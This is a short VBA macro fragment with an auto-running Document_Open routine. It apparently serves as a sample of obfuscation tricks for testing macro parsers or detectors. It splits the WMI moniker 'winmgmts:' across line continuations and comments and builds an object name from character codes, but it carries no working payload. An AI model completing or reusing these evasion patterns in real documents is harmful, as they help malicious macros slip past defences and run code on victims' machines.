Private Sub Document_Open()
  x = "win" & _
 "mgm" + "ts:" : Rem z
 Set o = CreateObject(Chr$(87) & y) ' c _
 d
End Sub
